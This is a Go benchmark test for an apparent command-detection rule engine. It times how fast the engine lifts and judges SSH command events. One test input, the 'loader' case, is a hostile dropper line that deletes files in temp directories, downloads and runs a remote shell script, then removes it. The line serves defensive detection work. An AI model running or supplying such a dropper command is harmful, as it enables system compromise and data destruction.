package packtest

import (
	"testing"

	"github.com/ttpstream/ttpstream/processors/facts"
	"github.com/ttpstream/ttpstream/rules"
	"github.com/ttpstream/ttpstream/rules/match"
	"github.com/ttpstream/ttpstream/schemas"
)

// BenchmarkPack lifts and judges commands of the kinds that sensors record by
// the thousand, with the whole pack in force.
func BenchmarkPack(b *testing.B) {
	set, problems := rules.NewSet(load(b), nil, 0)
	if err := problems.Err(); err != nil {
		b.Fatal(err)
	}
	for _, bench := range []struct{ name, command string }{
		{"nothing", "cd /srv/app; make; ./configure --prefix=/usr; true"},
		{"short", "uname -a"},
		{"pipe", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"},
		{"loader", "cd /tmp || cd /var/run || cd /mnt; rm -rf *; wget http://203.0.113.9/kx.sh; curl -O http://203.0.113.9/kx.sh; chmod 777 kx.sh; sh kx.sh; rm -f kx.sh"},
	} {
		for _, part := range []string{"lift", "judge"} {
			b.Run(bench.name+"/"+part, func(b *testing.B) {
				var out match.Event
				var scratch rules.Scratch
				ev := schemas.CommandEvent{Command: bench.command, Protocol: "ssh"}
				facts.LiftCommand(&ev, &out)
				b.ReportAllocs()
				for b.Loop() {
					if part == "lift" {
						facts.LiftCommand(&ev, &out)
					} else {
						set.Judge(&out, &scratch)
					}
				}
			})
		}
	}
}
